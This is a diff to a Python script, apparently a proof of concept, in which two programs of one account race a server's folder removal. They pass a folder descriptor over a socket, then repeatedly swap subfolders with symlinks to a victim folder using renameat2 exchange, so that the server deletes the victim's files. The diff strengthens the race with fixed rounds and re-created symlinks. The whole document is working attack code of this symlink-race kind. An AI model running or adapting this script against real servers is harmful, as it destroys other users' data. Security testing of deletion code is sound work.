@@ -1,7 +1,7 @@
 """Two programs of one account that try to redirect the removal of a folder.
 
 `lend` fills its work folder, passes the folder's descriptor to `swap` and ends. `swap` then exchanges the folders in it
-with links to a folder of the server's user, again and again, until all of them are gone.
+with links to a folder of the server's user, again and again, while the server removes it.
 
     folder-swapper.py lend|swap <socket name> <victim folder> <folders> <files>
 """
@@ -16,6 +16,7 @@ role, name, victim, folders, files = sys.argv[1:]
 address = "\0" + name
 libc = ctypes.CDLL(None, use_errno=True)
 RENAME_EXCHANGE = 2
+ROUNDS = 2000
 
 
 def connect():
@@ -49,17 +50,14 @@ def swap():
     channel, _ = listener.accept()
     _, (work,), _, _ = socket.recv_fds(channel, 16, 1)
     channel.send(b".")
+    channel.recv(1)  # the other program has ended
     swapped = 0
-    end = time.monotonic() + 30
-    while time.monotonic() < end:
-        left = 0
+    for _ in range(ROUNDS):
         for folder in range(int(folders)):
-            pair = f"folder{folder}".encode(), f"link{folder}".encode()
-            if libc.renameat2(work, pair[0], work, pair[1], RENAME_EXCHANGE) == 0:
+            if libc.renameat2(work, f"folder{folder}".encode(), work, f"link{folder}".encode(), RENAME_EXCHANGE) == 0:
                 swapped += 1
-                left += 1
-        if left == 0 and swapped > 0:
-            break
+            else:
+                libc.symlinkat(victim.encode(), work, f"link{folder}".encode())
     print("swapped", swapped)
 
 
